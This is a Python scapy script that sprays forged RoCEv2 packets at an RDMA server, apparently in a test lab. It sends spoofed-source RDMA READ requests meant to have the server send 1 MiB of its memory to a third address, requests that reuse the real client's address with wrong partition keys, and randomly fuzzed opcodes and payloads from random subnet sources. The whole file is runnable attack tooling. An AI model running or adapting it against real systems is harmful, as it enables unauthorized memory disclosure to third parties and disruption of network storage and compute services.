#!/usr/bin/python3
# Hostile RoCEv2 frames at a rocelab peer server, each with a valid ICRC (scapy's BTH computes it):
# spoofed sources (RDMA READs that would send the server's data to a third address), the real
# client's address with wrong P_Keys, and random opcodes, PSNs and lengths from random sources.
# Usage: spray.py DST CLIENT SPOOF QPN COUNT SEED
import random
import struct
import sys

from scapy.all import IP, UDP, Raw, conf, send
from scapy.contrib.roce import BTH

conf.verb = 0
dst, client, spoof, qpn, count, seed = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4], 0), \
    int(sys.argv[5]), int(sys.argv[6])
rnd = random.Random(seed)
READ_REQ = 0x0c  # RC RDMA READ Request (IBA 9.2, Table 38)


def reth(va, rkey, length):
    return struct.pack("!QII", va, rkey, length)


frames = []
for i in range(count):
    kind = i % 3
    if kind == 0:    # a READ of 1 MiB from an address that never connected
        src, pkey, op = spoof, 0xffff, READ_REQ
        payload = reth(rnd.getrandbits(64), rnd.getrandbits(32), 1 << 20)
    elif kind == 1:  # the client's own address, another partition
        src, pkey, op = client, rnd.choice([0x1234, 0x8001, 0x0000, 0x7ffe]), READ_REQ
        payload = reth(rnd.getrandbits(64), rnd.getrandbits(32), 1 << 20)
    else:            # anything: opcode, PSN, length, from anywhere on the subnet
        src = dst.rsplit(".", 1)[0] + "." + str(rnd.randint(3, 250))
        pkey, op = 0xffff, rnd.randrange(256)
        payload = bytes(rnd.getrandbits(8) for _ in range(rnd.randrange(0, 1100)))
    bth = BTH(opcode=op, pkey=pkey, dqpn=qpn if rnd.random() < 0.8 else rnd.randrange(1 << 24),
              psn=rnd.randrange(1 << 24), ackreq=1)
    frames.append(IP(src=src, dst=dst, flags="DF") / UDP(sport=rnd.randint(0xc000, 0xffff), dport=4791) /
                  bth / Raw(payload))
send(frames, inter=0)
print("sprayed %d frames" % len(frames))
